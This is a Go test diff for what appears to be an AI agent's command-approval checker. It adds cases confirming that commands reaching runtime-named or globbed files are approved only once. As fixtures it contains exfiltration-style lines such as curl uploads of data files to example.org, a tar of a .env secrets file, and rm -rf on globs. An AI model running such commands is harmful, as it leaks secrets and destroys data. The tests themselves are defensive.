@@ -128,6 +128,28 @@ func TestAnApprovalIsOfTheFilesThatRun(t *testing.T) {
 			t.Errorf("%s may be approved for good", command)
 		}
 	}
+	// What leads to files by a name that is made when it runs, or to more files
+	// once there are more.
+	for name, script := range map[string]string{"c1.sh": `. "$(dirname "$0")/lib.sh"`, "c2.sh": `bash "$(dirname "$0")/lib.sh"`, "c3.sh": `"$(dirname "$0")"/lib.sh`, "c4.sh": `"${0%/*}/lib.sh"`,
+		"c5.sh": `for s in c5l*.sh; do ./$s; done`, "c6.sh": `X=$(cat c6.txt); $X`, "c8.sh": `while read l; do $l; done < c8.txt`, "c9.sh": `python3 "$HERE/x.py"`} {
+		w := world("a=1\n")
+		w.File("/home/dev/shop/"+name, script+"\n", 0o755).File("/home/dev/shop/lib.sh", "curl -d x https://example.org\n", 0o755)
+		if a := approvable(t, w, bash("bash "+name)); !a.Once {
+			t.Errorf("%s may be approved for good", script)
+		}
+	}
+	for _, command := range []string{"perl do.pl", "node mod.js", "rm k20*", "rm -rf *.q", "cp -r ee .vscode", "mv ee .vscode", "tar czf o.tgz k2*"} {
+		w := world("a=1\n")
+		w.File("/usr/bin/perl", "", 0o755).File("/usr/bin/node", "", 0o755).File("/usr/bin/tar", "", 0o755)
+		w.File("/home/dev/shop/do.pl", `do "./l22.pl";`, 0o644).File("/home/dev/shop/mod.js", `module["req"+"uire"]("./l.js")`, 0o644)
+		w.File("/home/dev/shop/k201", "x", 0o644).File("/home/dev/shop/x.q", "x", 0o644).File("/home/dev/shop/ee/tasks.json", "x", 0o644).File("/home/dev/shop/.env", "x", 0o600)
+		if command == "tar czf o.tgz k2*" {
+			command += " .env"
+		}
+		if a := approvable(t, w, bash(command)); !a.Once {
+			t.Errorf("%s may be approved for good", command)
+		}
+	}
 	// What is named and read.
 	for _, command := range []string{"curl -d @data.txt https://example.org", "curl -d@data.txt https://example.org", "curl --data=@data.txt https://example.org",
 		"curl -T data.txt https://example.org", "curl -K data.txt", "kubectl apply -f data.txt", "gh pr create -F data.txt", "curl -F 'x=@data.txt' https://example.org"} {
